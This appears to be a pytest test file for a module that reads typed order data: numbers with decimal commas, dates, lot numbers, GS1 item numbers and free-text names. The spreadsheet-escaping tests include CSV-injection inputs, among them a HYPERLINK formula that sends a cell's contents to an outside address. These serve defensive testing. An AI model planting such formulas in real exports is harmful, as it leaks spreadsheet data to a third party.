"""Is what a person typed taken exactly, or refused with a sentence that helps?"""

from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orders.typed import (
    TypedUnreadable,
    check_digit,
    clean_identifier,
    clean_text,
    mentions_name,
    read_cell,
    read_day,
    read_identifier,
    read_item_number,
    read_number,
    read_table,
    safe_cell,
    twin_of,
    warn_of_twin,
    write_table,
)

# An invented number from the range that GS1 keeps for demonstrations.
UNIT = "09521234543213"
# Text without surrogates, which have no UTF-8 form (RFC 3629 section 3).
words = st.text(st.characters(exclude_categories=("Cs",)))


def number(text, **more):
    return read_number(text, **{"field": "Platform diameter", "unit": "mm"} | more)


def refusal_of(read, *args, **more):
    with pytest.raises(TypedUnreadable) as refused:
        read(*args, **more)
    return str(refused.value)


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("4,3", "4.3"),
        ("4.3", "4.3"),
        ("4.300", "4.3"),
        ("0,15", "0.15"),
        ("0,150", "0.15"),
        ("4,30", "4.3"),
        ("-0.35", "-0.35"),
        ("\u22120,35", "-0.35"),
        ("+4.3", "4.3"),
        ("35", "35"),
        ("100", "100"),
        ("0", "0"),
        ("-0", "0"),
        (" 4.3\u00a0", "4.3"),
        ("\uff14\uff0c\uff13", "4.3"),
        ("4.3 mm", "4.3"),
        ("4,3mm", "4.3"),
        ("0.1000000000000000055511", "0.1000000000000000055511"),
    ],
)
def test_e06_a_decimal_comma_is_a_decimal_point(text, value):
    read = number(text)

    assert read == Decimal(value)
    assert "E" not in str(read)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("4,300", ("4.3", "4300")),
        ("123,456", ("123.456", "123456")),
        ("1.234,5", ("1234.5", "thousands")),
        ("1,234.5", ("1234.5", "thousands")),
        ("1,234,567", ("1234567", "thousands")),
        ("1.234.567,8", ("1234567.8", "thousands")),
        ("1 234,5", ("1234.5", "thousands")),
        ("1'234.5", ("1234.5", "thousands")),
        (",5", ("0.5",)),
        ("5,", ("digits after it",)),
        ("4,3,2", ("more than one",)),
        ("4..3", ("more than one",)),
        ("4, 3", ("blank",)),
        ("4 3", ("blank",)),
        ("", ("Type a number in mm",)),
        (None, ("Type a number in mm",)),
        ("four", ("no number",)),
        ("1e3", ("no number",)),
        ("9.5E+12", ("no number",)),
        ("nan", ("no number",)),
        ("Infinity", ("no number",)),
        ("0x10", ("no number",)),
        ("1_000", ("no number",)),
        ("4.3 cm", ("'cm'", "Type the value in mm")),
        ("\u0664", ("no number",)),
        ("9" * 5000, ("too long",)),
        ("\ud800", ("no number",)),
    ],
)
def test_e06_what_could_be_another_number_is_refused(text, said):
    sentence = refusal_of(number, text)

    assert sentence.startswith("Platform diameter: ")
    assert all(part in sentence for part in said)
    assert sentence.encode()


@pytest.mark.parametrize("text", ["35 Ncm", "35 N\u00b7cm", "35 N.cm", "35 n cm"])
def test_a_unit_is_known_however_it_is_pointed(text):
    assert read_number(text, field="Torque", unit="N\u00b7cm") == 35


def test_a_number_out_of_range_asks_for_the_decimal_point():
    said = refusal_of(number, "43", minimum=2, maximum=Decimal("8"))

    assert said == (
        "Platform diameter: 43 mm is above 8 mm, the most that can be entered here. Check the "
        "decimal point and the unit."
    )
    assert "below 2 mm" in refusal_of(number, "0.43", minimum=2)


def test_the_limits_themselves_may_be_entered():
    assert number("2", minimum=2, maximum=2) == 2


def test_digits_beyond_the_places_kept_are_refused_not_rounded():
    assert number("4.300", places=1) == Decimal("4.3")
    assert "than the 1 that are kept" in refusal_of(number, "4.35", places=1)
    assert "than the 0 that are kept" in refusal_of(number, "4.5", places=0)


@given(st.decimals(-999, 999, places=3))
def test_e06_point_and_comma_never_give_different_numbers(value):
    spelled = f"{value:f}"

    assert number(spelled) == value
    try:
        assert number(spelled.replace(".", ",")) == value
    except TypedUnreadable:
        pass


@given(words)
def test_any_text_is_a_number_or_a_sentence(text):
    try:
        assert number(text).is_finite()
    except TypedUnreadable as refused:
        assert refused.sentence


def day(text, **more):
    return read_day(text, **{"field": "Placed on"} | more)


@pytest.mark.parametrize(
    ("text", "order"),
    [
        ("2026-04-03", "iso"),
        ("2026-4-3", "iso"),
        ("2026/04/03", "iso"),
        ("2026-04-03", "dmy"),
        ("2026-04-03", "mdy"),
        ("03/04/2026", "dmy"),
        ("3.4.2026", "dmy"),
        ("04/03/2026", "mdy"),
        ("\u200b2026\u201304\u201303\r\n", "iso"),
    ],
)
def test_e10_a_day_is_read_in_the_order_shown(text, order):
    assert day(text, order=order) == date(2026, 4, 3)


@pytest.mark.parametrize(
    ("text", "order", "said"),
    [
        ("03/04/2026", "iso", ("3 April 2026", "4 March 2026", "format year-month-day")),
        ("31/12/2026", "iso", ("2026-12-31 (31 December 2026)",)),
        ("04/04/2026", "iso", ("2026-04-04 (4 April 2026)",)),
        ("32/13/2026", "iso", ("no day",)),
        ("31.12.26", "iso", ("year of two digits",)),
        ("31.12.26", "dmy", ("year of two digits", "day/month/year")),
        ("12/31/2026", "dmy", ("no month 31", "day/month/year")),
        ("2026-13-01", "iso", ("no month 13",)),
        ("2025-02-29", "iso", ("no 29 February 2025",)),
        ("31/04/2026", "dmy", ("no 31 April 2026",)),
        ("2026-00-01", "iso", ("no month 0",)),
        ("0000-01-01", "iso", ("no 1 January 0000",)),
        ("2026-04-03T10:00", "iso", ("no day",)),
        ("20260403", "iso", ("no day",)),
        ("2026-04/03", "iso", ("no day",)),
        ("yesterday", "iso", ("no day",)),
        ("", "dmy", ("day/month/year",)),
        (None, "iso", ("year-month-day",)),
        ("0226-04-03", "iso", ("before 1 January 1900",)),
    ],
)
def test_e10_what_is_no_single_day_is_refused(text, order, said):
    sentence = refusal_of(day, text, order=order)

    assert sentence.startswith("Placed on: ")
    assert all(part in sentence for part in said)


def test_e10_a_birth_date_in_the_future_is_refused():
    said = refusal_of(
        read_day, "2031-01-01", field="Date of birth", today=date(2026, 5, 4), order="iso"
    )

    assert said == (
        "Date of birth: 1 January 2031 lies in the future (today is 4 May 2026). "
        "Check the year."
    )
    assert day("2026-05-04", today=date(2026, 5, 4)) == date(2026, 5, 4)


def test_a_day_outside_what_is_possible_is_refused():
    bounds = {"earliest": date(2026, 1, 2), "latest": date(2026, 1, 4)}

    assert "before 2 January 2026" in refusal_of(day, "2026-01-01", **bounds)
    assert "after 4 January 2026" in refusal_of(day, "2026-01-05", **bounds)
    assert day("2026-01-02", **bounds) == bounds["earliest"]


@given(words, st.sampled_from(["iso", "dmy", "mdy"]))
def test_any_text_is_a_day_or_a_sentence(text, order):
    try:
        assert day(text, order=order).year >= 1900
    except TypedUnreadable as refused:
        assert refused.sentence


@given(st.dates(date(1900, 1, 1)))
def test_every_day_is_read_back_in_every_order(there):
    assert day(f"{there:%Y-%m-%d}") == there
    assert day(f"{there:%d/%m/}{there.year}", order="dmy") == there
    assert day(f"{there:%m/%d/}{there.year}", order="mdy") == there


@pytest.mark.parametrize(
    "text", ["A-12/B", "000123", "+4930123", "12E5", "0", "L1I1", "'7", "a"]
)
def test_c13_e07_an_identifier_stays_as_printed(text):
    assert read_identifier(text, field="Lot") == text


def test_e07_twenty_digits_stay_text():
    assert read_identifier("12345678901234567890", field="Serial") == "12345678901234567890"


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("A 12", "blank at place 2"),
        ("A\u00a012", "blank at place 2"),
        ("A\t12", "blank at place 2"),
        ("", "as printed"),
        ("\u200b", "as printed"),
        ("A\u201312", "place 2 is '\u2013' (en dash)"),
        ("\u041b12", "cyrillic capital letter el"),
        ("x" * 41, "41 characters"),
        ("A\ud800", "replacement character"),
    ],
)
def test_c13_what_is_not_printed_in_a_lot_is_named(text, said):
    assert said in refusal_of(read_identifier, text, field="Lot")


@pytest.mark.parametrize(
    "text",
    [
        UNIT,
        "0 952123 4543213",
        "0952-1234-543213",
        "0952\u20111234\u2013543213",
        UNIT[1:],
        f"'{UNIT}",
        f"\u00a0{UNIT}\u00a0",
        f"\u200b{UNIT[:7]}\u200b{UNIT[7:]}",
        f"\ufeff{UNIT}",
        f"{UNIT}\r\n",
        "".join(chr(ord(digit) + 0xFEE0) for digit in UNIT),
    ],
)
def test_c13_c16_c19_an_item_number_is_stored_as_fourteen_digits(text):
    assert read_item_number(text) == UNIT


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (f"O{UNIT[1:]}", "letter O, not the digit 0, at place 1"),
        ("0952I234543213", "letter I, not the digit 1, at place 5"),
        ("0952l234543213", "letter l, not the digit 1, at place 5"),
        ("095212345432X3", "letter 'X' at place 13"),
        ("0952123454321?", "character '?' at place 14"),
    ],
)
def test_c15_a_letter_in_an_item_number_is_named_with_its_place(text, said):
    assert said in refusal_of(read_item_number, text)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("9.52123E+12", "digits that are lost"),
        ("9,52123E+12", "digits that are lost"),
        ("9E12", "digits that are lost"),
        (f"{UNIT[1:]}.0", "decimal number"),
        (f"{UNIT[1:]},00", "decimal number"),
        ("9521234543214", "check digit"),
        ("95212345432", "11 digits"),
        ("0" * 14, "all zeros"),
        ("", "digits under the bar code"),
        ("'", "digits under the bar code"),
        ("7" * 9999, "9999 digits"),
    ],
)
def test_c16_a_number_that_lost_digits_is_refused(text, said):
    sentence = refusal_of(read_item_number, text)

    assert said in sentence
    assert len(sentence) < 300


@pytest.mark.parametrize(
    ("digits", "check"),
    # Examples of GS1's check-digit pages (global, Sweden, India).
    [("629104150021", "3"), ("730001100001", "7"), ("890400021003", "7")],
)
def test_check_digit_agrees_with_published_examples(digits, check):
    assert check_digit(digits) == check
    assert read_item_number(digits + check) == "0" + digits + check


@given(st.from_regex(r"[1-9][0-9]{12}", fullmatch=True), st.integers(0, 13), st.integers(1, 9))
def test_any_one_wrong_digit_is_found(body, place, shift):
    right = body + check_digit(body)
    wrong = right[:place] + str((int(right[place]) + shift) % 10) + right[place + 1 :]

    assert "check digit" in refusal_of(read_item_number, wrong)


@pytest.mark.parametrize(
    ("identifier", "other", "twin"),
    [
        ("SO123", "S0123", True),
        ("s0123", "S0123", True),
        ("LI1", "L11", True),
        ("Ll1", "LI1", True),
        ("S0123", "S0123", False),
        ("S0123", "S0124", False),
        ("A-12", "A12", False),
    ],
)
def test_c15_two_serials_that_look_alike_are_two_with_a_warning(identifier, other, twin):
    assert twin_of(identifier, ["ZZZ", other]) == (other if twin else None)
    assert bool(warn_of_twin(identifier, [other], field="Serial")) is twin


def test_c15_the_warning_names_both():
    said = warn_of_twin("SO123", ["S0123"], field="Serial")

    assert said.startswith("Serial: 'SO123' is similar to 'S0123'")


@pytest.mark.parametrize(
    "text",
    ["LOT42A\r\n", "LOT42A\t", "\ufeffLOT42A", "LOT\u200b42A", "\u00a0LOT42A", "LOT42A\x1d"],
)
def test_c19_invisible_characters_make_no_second_lot(text):
    assert read_identifier(text, field="Lot") == "LOT42A"


def test_c19_free_text_keeps_what_shapes_it_and_loses_what_breaks_it():
    picture = "Kim \U0001f469\u200d\U0001f52c"

    assert clean_text(f"\ufeff {picture}\r\nsecond\rthird \x00\u200b") == (
        f"{picture}\nsecond\nthird"
    )
    assert clean_text("Zoe\u0301") == "Zo\u00e9"
    assert clean_text("a\ud800b") == "a\ufffdb"
    assert clean_text(None) == ""


def test_long_runs_of_blanks_cost_no_more_than_their_length():
    text = f"a{' ' * 500_000}b"

    assert clean_text(f" {text} ") == text
    assert clean_identifier(text) == "a b"


@given(words)
def test_cleaning_twice_changes_nothing(text):
    assert clean_text(clean_text(text)) == clean_text(text)
    assert clean_identifier(clean_identifier(text)) == clean_identifier(text)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "+49 30 1234",
        "+4930123",
        "\uff1d1+1",
        " =1+1",
        "\ufeff=1+1",
        "--1",
        "'=1+1",
    ],
)
def test_e04_a_formula_becomes_text(text):
    cell = safe_cell(text)

    assert cell == f"'{text}"
    assert read_cell(cell) == text


@pytest.mark.parametrize(
    "text",
    [
        "-0.35",
        "-0,35",
        "-",
        "4.3",
        "line1\n=1+1",
        'a","=1+1',
        "'tis",
        "000123",
        "12E5",
        "0",
        "",
    ],
)
def test_e04_e07_what_is_no_formula_stays_as_it_is(text):
    assert safe_cell(text) == text
    assert read_cell(text) == text


@given(words)
def test_e04_every_text_comes_back(text):
    assert read_cell(safe_cell(text)) == text


@given(st.lists(st.lists(words, min_size=1, max_size=4), max_size=5))
def test_e04_e07_every_table_comes_back_row_by_row(rows):
    assert list(read_table(write_table(rows))) == rows


def test_e04_every_row_has_the_same_number_of_columns():
    rows = [
        ["a", 'a","=1+1'],
        ["b", "line1\n=1+1"],
        ["c", "\r=1+1"],
        ["d", "12345678901234567890"],
    ]

    page = write_table(rows)

    assert list(read_table(page)) == rows
    assert '"\'\r=1+1"' in page


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("Please call Mrs Kohen about the fit", "Yael Kohen"),
        ("kohen", "Yael KOHEN"),
        ("for M\u00fcller", "d'Angelo-M\u00fcller"),
        ("for Muller", "d'Angelo-M\u00fcller"),
        ("for Mueller", "d'Angelo-M\u00fcller"),
        ("for M\u00fcller", "Jo Mueller"),
        ("as DANGELO said", "d'Angelo-M\u00fcller"),
        ("O\u2019Brien's crown", "O'Brien"),
        ("OBrien", "O\u00b4Brien"),
        ("Mr Brien", "O'Brien"),
        ("Zoe wants it lighter", "Zo\u00eb Lind"),
        ("Soren", "S\u00f8ren Ek"),
        ("Strasse", "Karl Stra\u00dfe"),
        ("crown of Bo Li, upper", '"Bo" Li'),
        ("\u5c71\u7530\u3055\u3093\u306e\u51a0", "\u5c71\u7530 \u592a\u90ce"),
        ("\u043e\u043b\u0435\u0433", "\u041e\u043b\u0435\u0433"),
        ("\u05d9\u05e2\u05dc 12", "\u05d9\u05e2\u05dc"),
    ],
)
def test_a_name_in_free_text_is_found(text, name):
    assert mentions_name(text, name)


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("the contact is tight", "Ann Tigh"),
        ("annealed", "Ann Lee"),
        ("", "Yael Kohen"),
        ("all fine", ""),
        ("Li on 45", "Bo Li"),
        ("bolt and screw", "Bo Li"),
        ("tooth 451", "451 452"),
    ],
)
def test_what_is_no_name_is_not_found(text, name):
    assert not mentions_name(text, name)
